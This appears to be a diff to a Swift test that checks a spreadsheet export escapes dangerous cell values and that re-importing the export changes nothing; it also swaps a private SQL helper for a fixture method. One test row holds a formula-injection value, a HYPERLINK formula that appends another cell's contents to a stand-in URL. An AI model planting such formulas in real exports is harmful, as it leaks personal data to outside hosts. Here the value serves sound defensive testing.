@@ -28,20 +28,13 @@ enum SpreadsheetScenarios {
         let row = try XCTUnwrap(lines.all.first { $0.hasPrefix("S002,") })
         XCTAssertEqual(row, "S002,17.07.30-033.84,\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\")\",'@Bram,2017-07-30,"
                        + "male,nl,contractual,'-C2,50,2022-09-01,,")
-        let before = try await dossierRow(fixture, dossier)
+        let before = try await fixture.dossierColumns(dossier, ["last_name", "first_name", "grade", "version"])
         XCTAssertEqual(before[0...2], [formula, "@Bram", "-C2"])
         let summary = try await DossierImport(store: fixture.store, configuration: fixture.configuration)
             .run(csv: lines.all.joined(separator: "\n"), employer: ServerFixture.cpas)
         XCTAssertEqual(summary.updated, 0, "the export read back is what is stored")
-        let after = try await dossierRow(fixture, dossier)
+        let after = try await fixture.dossierColumns(dossier, ["last_name", "first_name", "grade", "version"])
         XCTAssertEqual(after, before)
         await fixture.store.close()
-    }
-
-    private static func dossierRow(_ fixture: ServerFixture, _ id: String) async throws -> [String?] {
-        try await fixture.store.read { tx in
-            let row = try await tx.first("SELECT last_name, first_name, grade, version FROM dossiers WHERE id = ?", [.text(id)])
-            return ["last_name", "first_name", "grade", "version"].map { row?.string($0) }
-        }
     }
 }
